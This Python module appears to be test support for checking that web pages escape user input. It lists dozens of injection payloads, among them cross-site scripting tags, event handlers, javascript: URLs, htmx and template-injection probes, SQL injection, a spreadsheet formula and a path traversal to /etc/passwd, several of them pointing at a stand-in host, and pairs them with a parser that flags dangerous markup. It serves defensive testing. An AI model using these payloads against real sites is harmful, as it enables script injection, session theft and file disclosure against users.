"""Markup as strangers type it, and a reader that sees what of it a browser would take for more than words."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Final

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt/src=//e.example></ScRiPt>",
    "<script\n>alert(1)</script\t>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert`1`>",
    "<img src='x' onerror=\"alert(1)\">",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) x=`",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "x onfocus=alert(1) autofocus",
    "x/onclick=alert(1)/",
    '" type="image" src=x onerror="alert(1)',
    '" formaction="javascript:alert(1)',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<a href=javascript:alert(1)>押す</a>",
    "<a href='java\tscript:alert(1)'>押す</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "javascript:alert(1)",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//e.example/x.swf>",
    "<base href=//e.example/>",
    "<meta http-equiv=refresh content=0;url=//e.example>",
    "<link rel=stylesheet href=//e.example/x.css>",
    "<style>*{background:url(//e.example)}</style>",
    "<div style=background:url(//e.example)>x</div>",
    "<form action=//e.example><button>送る</button></form>",
    "</form><form action=//e.example method=post>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "]]><script>alert(1)</script>",
    "<?php echo 1 ?>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<b hx-get=/my hx-trigger=load>x</b>",
    "<b data-hx-post=/signout hx-trigger=load>x</b>",
    '" hx-get="/my" hx-trigger="load',
    '" hx-on:click="alert(1)',
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "{{7*7}}{{config}}{{self.__init__.__globals__}}",
    "{% include '/etc/passwd' %}{# x #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(x)s %s {0} {x}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onfocus=alert(1) x=&quot;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3e '+alert(1)+' \";alert(1)//",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾",
    "\ue0000\ue001 \ue0001\ue001 \ue000\ue001 \ue00099999\ue001",
    "]]>\u200b<script>\u00adalert(1)</script>",
    "' OR '1'='1' -- ",
    '=HYPERLINK("http://e.example","押す")',
    "../../../../etc/passwd",
)
"""Tags, attributes, addresses, ends of every context there is on our pages, htmx, templates, and our own marks for
where an answer is to stand (U+E000)."""


class Reading(HTMLParser):
    """A page as a browser reads it. `words` is all its text and all values, `shape` everything else."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.shape: set[tuple[str, ...]] = set()
        self.harm: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.add((tag, *sorted(name for name, _ in attrs)))
        for name, value in attrs:
            self.words.append(value or "")
            self._look_at(tag, name, (value or "").strip().lower())

    def _look_at(self, tag: str, name: str, value: str) -> None:
        leads = name in ("href", "src", "action", "formaction", "data", "poster", "hx-get", "hx-post", "xlink:href")
        if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc"):
            self.harm.append(f"{tag} {name}")
        if (
            leads
            and value
            and not (value.isdecimal() or value.startswith(("/", "#", "?lang=", "tel:", "mailto:", "https://")))
        ):
            self.harm.append(f"{tag} {name}={value}")
        if leads and value.startswith("//"):
            self.harm.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.harm.append(f"comment {data}")

    def handle_pi(self, data: str) -> None:
        self.harm.append(f"instruction {data}")

    def holds(self, text: str) -> bool:
        """Whether the text stands there as it was typed, blanks apart."""
        wanted = " ".join(text.split())
        return any(wanted in " ".join(each.split()) for each in self.words)
